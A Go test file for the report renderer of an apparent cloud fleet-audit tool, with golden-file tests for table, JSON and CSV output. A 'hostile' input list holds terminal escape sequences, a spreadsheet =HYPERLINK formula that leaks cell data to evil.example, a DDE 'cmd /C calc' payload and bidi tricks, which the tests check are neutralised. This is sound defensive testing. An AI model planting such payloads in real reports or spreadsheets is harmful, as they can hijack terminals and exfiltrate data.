package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/fleetdoctor/fleetdoctor/pkg/audit"
	"github.com/fleetdoctor/fleetdoctor/pkg/checks"
	"github.com/fleetdoctor/fleetdoctor/pkg/inventory"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run 'go test ./pkg/report -update' to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (review, then 'go test ./pkg/report -update'):\n--- got ---\n%s\n--- want ---\n%s", name, got, want)
	}
}

var (
	started = time.Date(2026, 3, 2, 9, 30, 0, 0, time.UTC)
	acctA   = "111122223333"
	acctB   = "444455556666"
)

func remediationOf(id string) *checks.Remediation {
	if c := checks.Lookup(id); c != nil {
		r := c.Remediation
		return &r
	}
	return &checks.Remediation{Manual: "Investigate by hand."}
}

func fail(check string, sev checks.Severity, account, region, rtype, resource, detail string) checks.Finding {
	return checks.Finding{
		Check: check, Status: checks.Fail, Severity: sev, Account: account, Region: region,
		ResourceType: rtype, Resource: resource, Detail: detail, Remediation: remediationOf(check),
	}
}

// sampleRun is a two-account, two-region run with several groups, a
// severity override, a name shared by two accounts, an audit error, a
// muted finding and a check this catalogue does not know (a newer run).
func sampleRun() *audit.Run {
	var fs []checks.Finding
	for i := range 7 {
		id := fmt.Sprintf("i-0a%015d", i)
		fs = append(fs, fail("imds_endpoint_disabled", checks.High, acctA, "eu-west-1", checks.TypeInstance, id,
			"IMDS endpoint is disabled on "+id+"; the SSM agent cannot get credentials"))
	}
	for i := range 3 {
		id := fmt.Sprintf("i-0b%015d", i)
		fs = append(fs, fail("imds_v1_allowed", checks.Medium, acctB, "us-east-1", checks.TypeInstance, id,
			"IMDSv1 is allowed on "+id+" (HttpTokens=optional)"))
	}
	fs = append(fs,
		fail("ssm_not_registered", checks.Critical, acctA, "us-east-1", checks.TypeInstance, "i-0c000000000000001",
			"i-0c000000000000001 has run for 3 days and never registered with SSM"),
		fail("ssm_not_registered", checks.High, acctA, "us-east-1", checks.TypeInstance, "i-0c000000000000002",
			"i-0c000000000000002 has run for 2 hours and never registered with SSM"),
		fail("iam_profile_without_role", checks.High, acctA, "eu-west-1", checks.TypeProfile, "orphan-profile",
			"Instance profile orphan-profile has no role; IMDS answers 404 for credentials"),
		fail("iam_profile_without_role", checks.High, acctB, "eu-west-1", checks.TypeProfile, "orphan-profile",
			"Instance profile orphan-profile has no role; IMDS answers 404 for credentials"),
		fail("future_check", checks.Low, acctB, "eu-west-1", checks.TypeInstance, "i-0d000000000000001",
			"A check from a newer fleetdoctor"),
		checks.Finding{
			Check: checks.IncompleteID, Status: checks.Error, Severity: checks.High, Account: acctB, Region: "eu-west-1",
			ResourceType: checks.TypeRegion, Resource: acctB + "/eu-west-1",
			Detail: "Could not read SSM registrations in 444455556666/eu-west-1 (ssm:DescribeInstanceInformation: " +
				"access-denied; grant ssm:DescribeInstanceInformation to the audit role); not checked: ssm_not_registered.",
			Evidence:    map[string]any{"api": "ssm:DescribeInstanceInformation", "kind": "access-denied"},
			Remediation: remediationOf(checks.IncompleteID),
		},
		checks.Finding{
			Check: "imds_v1_allowed", Status: checks.Muted, Severity: checks.Medium, Account: acctA, Region: "eu-west-1",
			ResourceType: checks.TypeInstance, Resource: "i-0e000000000000001",
			Detail: "IMDSv1 is allowed on i-0e000000000000001 (exempt until 2026-06-30)", Remediation: remediationOf("imds_v1_allowed"),
		},
	)
	return &audit.Run{
		Run: audit.Info{
			ID: "run-20260302T093000Z", StartedAt: started, FinishedAt: started.Add(94 * time.Second),
			Scope: audit.Scope{Accounts: []string{acctA, acctB}, Regions: []string{"eu-west-1", "us-east-1"},
				RoleName: "fleetdoctor-audit", MetricWindow: "336h0m0s"},
		},
		Summary: audit.Summary{
			Accounts: 2, AccountRegions: 4, Instances: 1000, FailingInstances: 13, Health: 98.7,
			ByStatus:                   map[checks.Status]int{checks.Pass: 9000, checks.Fail: 15, checks.Error: 1, checks.Muted: 1},
			BySeverity:                 map[checks.Severity]int{checks.Critical: 1, checks.High: 12, checks.Medium: 3, checks.Low: 1},
			FailingInstancesBySeverity: map[checks.Severity]int{checks.Critical: 1, checks.High: 8, checks.Medium: 3, checks.Low: 1},
			Checks: []checks.Stat{
				{Check: "imds_endpoint_disabled", Evaluated: 1000, Failed: 7},
				{Check: "ssm_not_registered", Evaluated: 750, Failed: 2, Errored: 1},
			},
		},
		Findings: fs,
		Errors: []audit.RunError{{Account: acctB, Region: "eu-west-1", CollectError: inventory.CollectError{
			What: "SSM registrations", API: "ssm:DescribeInstanceInformation", Kind: "access-denied",
			Code: "AccessDeniedException", Message: "not authorized", Permission: "ssm:DescribeInstanceInformation"}}},
	}
}

func emptyRun() *audit.Run {
	return &audit.Run{
		Run: audit.Info{ID: "run-empty", StartedAt: started, FinishedAt: started.Add(time.Second),
			Scope: audit.Scope{Accounts: []string{acctA}, Regions: []string{"eu-west-1"}, MetricWindow: "336h0m0s"}},
		Summary: audit.Summary{Accounts: 1, AccountRegions: 1, Instances: 40, Health: 100},
	}
}

// hostile is text an attacker can put in a tag or make a host print.
var hostile = []string{
	"\x1b[31mred\x1b[0m \x1b]8;;https://evil.example/\x07link\x1b]8;;\x07",
	"line one\nFAIL\tforged\trow\r\n",
	`=HYPERLINK("https://evil.example/?leak="&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,1)",
	"\tstarts with tab",
	"\u009b31mC1 CSI\u202eevil\u2066",
	"bad utf8 \xff\xfe here",
	strings.Repeat("A", 10*1024),
}

func hostileRun() *audit.Run {
	run := emptyRun()
	run.Run.ID = "run-hostile"
	run.Summary.FailingInstances = len(hostile)
	run.Summary.Health = 75
	run.Summary.FailingInstancesBySeverity = map[checks.Severity]int{checks.High: len(hostile)}
	for _, h := range hostile {
		run.Findings = append(run.Findings, checks.Finding{
			Check: "imds_endpoint_disabled", Status: checks.Fail, Severity: checks.High, Account: acctA, Region: "eu-west-1",
			ResourceType: checks.TypeInstance, Resource: h, Detail: "tag Name=" + h,
			Evidence:    map[string]any{"tag": h},
			Remediation: &checks.Remediation{Manual: h},
		})
	}
	return run
}

func render(t *testing.T, f func(*bytes.Buffer) error) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := f(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestGolden(t *testing.T) {
	runs := map[string]func() *audit.Run{"sample": sampleRun, "empty": emptyRun, "hostile": hostileRun}
	for name, mk := range runs {
		t.Run(name, func(t *testing.T) {
			golden(t, name+".table.golden", render(t, func(b *bytes.Buffer) error { return Table(b, mk(), TableOptions{}) }))
			// The hostile run's JSON is checked by TestHostileInputIsInert
			// instead: a golden file of 40 KB of "AAAA" reviews badly.
			if name != "hostile" {
				golden(t, name+".json.golden", render(t, func(b *bytes.Buffer) error { return JSON(b, mk()) }))
			}
			golden(t, name+".csv.golden", render(t, func(b *bytes.Buffer) error { return CSV(b, mk()) }))
		})
	}
}

func TestTableGroupsInCatalogueOrder(t *testing.T) {
	cat := checks.Catalogue()
	if len(cat) < 2 {
		t.Fatal("the catalogue must have at least two checks for this test")
	}
	run := emptyRun()
	// Findings in reverse catalogue order; the table must restore it.
	for i := len(cat) - 1; i >= 0; i-- {
		run.Findings = append(run.Findings, fail(cat[i].ID, cat[i].Severity, acctA, "eu-west-1", cat[i].ResourceType, "r-"+cat[i].ID, "d"))
	}
	out := string(render(t, func(b *bytes.Buffer) error { return Table(b, run, TableOptions{}) }))
	last := -1
	for _, c := range cat {
		i := strings.Index(out, " "+c.ID+" ")
		if i < 0 {
			t.Fatalf("table lacks %s:\n%s", c.ID, out)
		}
		if i < last {
			t.Errorf("%s is out of catalogue order:\n%s", c.ID, out)
		}
		last = i
	}
}

func TestTableResourcesAndMore(t *testing.T) {
	out := string(render(t, func(b *bytes.Buffer) error { return Table(b, sampleRun(), TableOptions{MaxResources: 2}) }))
	want := "i-0a000000000000000, i-0a000000000000001 +5 more"
	if !strings.Contains(out, want) {
		t.Errorf("table lacks %q:\n%s", want, out)
	}
	// The same profile name in two accounts is two resources, qualified.
	if !strings.Contains(out, acctA+"/orphan-profile, "+acctB+"/orphan-profile") {
		t.Errorf("shared names are not qualified by account:\n%s", out)
	}
	if strings.Contains(out, "i-0e000000000000001") {
		t.Errorf("muted finding listed in the table:\n%s", out)
	}
}

func TestSummaryLine(t *testing.T) {
	run := sampleRun()
	got := SummaryLine(run)
	want := "1,000 instances in 2 accounts × 2 regions: 98.7% healthy, 13 failing (critical 1, high 8, medium 3, low 1); 1 audit error; 1 muted"
	if got != want {
		t.Errorf("SummaryLine = %q\nwant          %q", got, want)
	}

	run.Summary = audit.Summary{Accounts: 1, Instances: 10000, FailingInstances: 1, Health: 99.99,
		FailingInstancesBySeverity: map[checks.Severity]int{checks.Low: 1}}
	run.Findings = nil
	if got, want := SummaryLine(run), "10,000 instances in 1 account × 2 regions: 99.9% healthy, 1 failing (low 1)"; got != want {
		t.Errorf("a failing fleet must not round to 100%%: %q, want %q", got, want)
	}
}

func TestEmptyTableSaysSo(t *testing.T) {
	out := string(render(t, func(b *bytes.Buffer) error { return Table(b, emptyRun(), TableOptions{}) }))
	if !strings.HasPrefix(out, "No findings") || !strings.Contains(out, "100.0% healthy, none failing") {
		t.Errorf("empty run table:\n%s", out)
	}
}

// TestHostileInputIsInert checks that attacker-chosen text reaches no
// renderer in a form a terminal or a spreadsheet would act on.
func TestHostileInputIsInert(t *testing.T) {
	run := hostileRun()
	table := render(t, func(b *bytes.Buffer) error { return Table(b, run, TableOptions{MaxResources: len(hostile)}) })
	csvOut := render(t, func(b *bytes.Buffer) error { return CSV(b, run) })
	jsonOut := render(t, func(b *bytes.Buffer) error { return JSON(b, run) })

	for name, out := range map[string][]byte{"table": table, "csv": csvOut, "json": jsonOut} {
		if i := bytes.IndexByte(out, 0x1b); i >= 0 {
			t.Errorf("%s output contains a raw ESC at byte %d", name, i)
		}
		for _, r := range []rune{0x9b, 0x202e, 0x2066, '\r', '\a'} {
			if bytes.ContainsRune(out, r) {
				t.Errorf("%s output contains raw %U", name, r)
			}
		}
		if !utf8.Valid(out) {
			t.Errorf("%s output is not valid UTF-8", name)
		}
	}

	// Table: one header, one group row, blank, summary; lines capped.
	lines := strings.Split(strings.TrimSuffix(string(table), "\n"), "\n")
	if len(lines) != 4 {
		t.Errorf("hostile table has %d lines, want 4 (newlines in input forged rows?):\n%s", len(lines), table)
	}
	for _, l := range lines {
		if n := utf8.RuneCountInString(l); n > len(hostile)*(maxResource+2)+100 {
			t.Errorf("table line of %d runes: long input was not capped", n)
		}
	}
	if !strings.Contains(string(table), `\x1b[31mred`) {
		t.Errorf("escape sequence not shown escaped:\n%s", table)
	}

	// CSV: parses back, one row per finding, formulas neutralised, capped.
	rows, err := csv.NewReader(bytes.NewReader(csvOut)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(hostile) {
		t.Fatalf("csv has %d rows, want %d", len(rows), 1+len(hostile))
	}
	for _, row := range rows[1:] {
		for col, cell := range row {
			if cell != "" && strings.ContainsRune(formulaPrefixes, rune(cell[0])) {
				t.Errorf("csv cell %s=%q starts a formula", CSVHeader[col], cell)
			}
			if strings.ContainsAny(cell, "\n\r\t") {
				t.Errorf("csv cell %s=%q has a raw control character", CSVHeader[col], cell)
			}
			if n := utf8.RuneCountInString(cell); n > maxDetail+1 {
				t.Errorf("csv cell %s has %d runes: not capped", CSVHeader[col], n)
			}
		}
	}
	if got := rows[3][6]; !strings.HasPrefix(got, `'=HYPERLINK(`) {
		t.Errorf("formula resource cell = %q, want a leading '", got)
	}

	// JSON: lossless — decodes to exactly the hostile strings.
	var back audit.Run
	if err := json.Unmarshal(jsonOut, &back); err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		want := string([]rune(h)) // each invalid byte becomes U+FFFD, as encoding/json does
		if back.Findings[i].Resource != want || back.Findings[i].Evidence["tag"] != want {
			t.Errorf("finding %d did not round-trip through JSON", i)
		}
	}
}

func TestTerminalSafe(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"i-0abc", "i-0abc"},
		{"a\x1b[2Jb", `a\x1b[2Jb`},
		{"a\nb\tc\r", `a\nb\tc\r`},
		{"del\x7f", `del\x7f`},
		{"c1\u009b", `c1\u009b`},
		{"rlo\u202eoff", `rlo\u202eoff`},
		{"bad\xff", `bad\xff`},
		{"héllo ✓", "héllo ✓"},
	} {
		if got := TerminalSafe(tc.in, 0); got != tc.want {
			t.Errorf("TerminalSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	if got := TerminalSafe(strings.Repeat("é", 100), 10); got != strings.Repeat("é", 9)+"…" {
		t.Errorf("cap: %q", got)
	}
}

func TestCellSafe(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@x", "'@x"},
		{"\tx", `\tx`}, {"\rx", `\rx`}, {"i-0abc", "i-0abc"}, {"", ""},
	} {
		if got := cellSafe(tc.in, maxCell); got != tc.want {
			t.Errorf("cellSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestJSONIsTheRunDocument(t *testing.T) {
	run := sampleRun()
	out := render(t, func(b *bytes.Buffer) error { return JSON(b, run) })
	var back audit.Run
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back.Summary, run.Summary) || len(back.Findings) != len(run.Findings) || back.Run.ID != run.Run.ID {
		t.Errorf("run document did not round-trip")
	}
	// Same input, same bytes.
	if again := render(t, func(b *bytes.Buffer) error { return JSON(b, sampleRun()) }); !bytes.Equal(out, again) {
		t.Errorf("JSON output is not stable")
	}
	// Top-level order is the contract's: run, summary, findings, errors.
	var keys []string
	dec := json.NewDecoder(bytes.NewReader(out))
	dec.Token() // {
	for dec.More() {
		k, _ := dec.Token()
		keys = append(keys, k.(string))
		var skip json.RawMessage
		if err := dec.Decode(&skip); err != nil {
			t.Fatal(err)
		}
	}
	if got := strings.Join(keys, ","); got != "run,summary,findings,errors" {
		t.Errorf("top-level keys %s", got)
	}
	// Empty lists are [], never null.
	empty := string(render(t, func(b *bytes.Buffer) error { return JSON(b, emptyRun()) }))
	if strings.Contains(empty, "null") || !strings.Contains(empty, `"findings": []`) {
		t.Errorf("empty run JSON has null:\n%s", empty)
	}
}

func TestRender(t *testing.T) {
	for _, f := range Formats {
		if err := Render(&bytes.Buffer{}, sampleRun(), f, TableOptions{}); err != nil {
			t.Errorf("Render(%s): %v", f, err)
		}
	}
	for _, f := range Planned {
		if Supported(f) || Render(&bytes.Buffer{}, sampleRun(), f, TableOptions{}) == nil {
			t.Errorf("%s claims to be supported", f)
		}
	}
}

// testCatalogue is fixed so its golden file does not change each time a
// check is added; TestCatalogueListsEveryCheck covers the real one.
func testCatalogue() []*checks.Check {
	return []*checks.Check{
		{Meta: checks.Meta{ID: "imds_endpoint_disabled", Family: checks.FamilyIMDS, Title: "IMDS endpoint is disabled",
			Severity: checks.High, ResourceType: checks.TypeInstance, Risk: "The agent and SDKs lose credentials.",
			Needs:       []inventory.Source{inventory.SourceInstances},
			Remediation: checks.Remediation{ID: "imds_enable_endpoint", Automatic: true, Document: "FleetDoctor-SetMetadataOptions"}}},
		{Meta: checks.Meta{ID: "ssm_connection_lost", Family: checks.FamilySSM, Title: "SSM agent lost its connection",
			Severity: checks.Medium, ResourceType: checks.TypeInstance, Risk: "Commands and sessions fail.",
			Needs:       []inventory.Source{inventory.SourceManaged},
			Remediation: checks.Remediation{Manual: "Diagnose the host with 'fleetdoctor diagnose'."}}},
	}
}

func TestCatalogueGolden(t *testing.T) {
	golden(t, "catalogue.table.golden", render(t, func(b *bytes.Buffer) error { return Catalogue(b, checks.Metas(testCatalogue()), FormatTable) }))
	golden(t, "catalogue.json.golden", render(t, func(b *bytes.Buffer) error { return Catalogue(b, checks.Metas(testCatalogue()), FormatJSON) }))
	if err := Catalogue(&bytes.Buffer{}, checks.Metas(testCatalogue()), FormatCSV); err == nil {
		t.Error("catalogue accepted csv")
	}
}

func TestCatalogueListsEveryCheck(t *testing.T) {
	cat := checks.Metas(checks.Catalogue())
	table := string(render(t, func(b *bytes.Buffer) error { return Catalogue(b, cat, FormatTable) }))
	var metas []checks.Meta
	if err := json.Unmarshal(render(t, func(b *bytes.Buffer) error { return Catalogue(b, cat, FormatJSON) }), &metas); err != nil {
		t.Fatal(err)
	}
	if len(metas) != len(cat) {
		t.Fatalf("json lists %d checks, catalogue has %d", len(metas), len(cat))
	}
	for i, c := range cat {
		if metas[i].ID != c.ID {
			t.Errorf("json entry %d is %s, want %s", i, metas[i].ID, c.ID)
		}
		if !strings.Contains(table, c.ID) {
			t.Errorf("table lacks %s", c.ID)
		}
	}
}
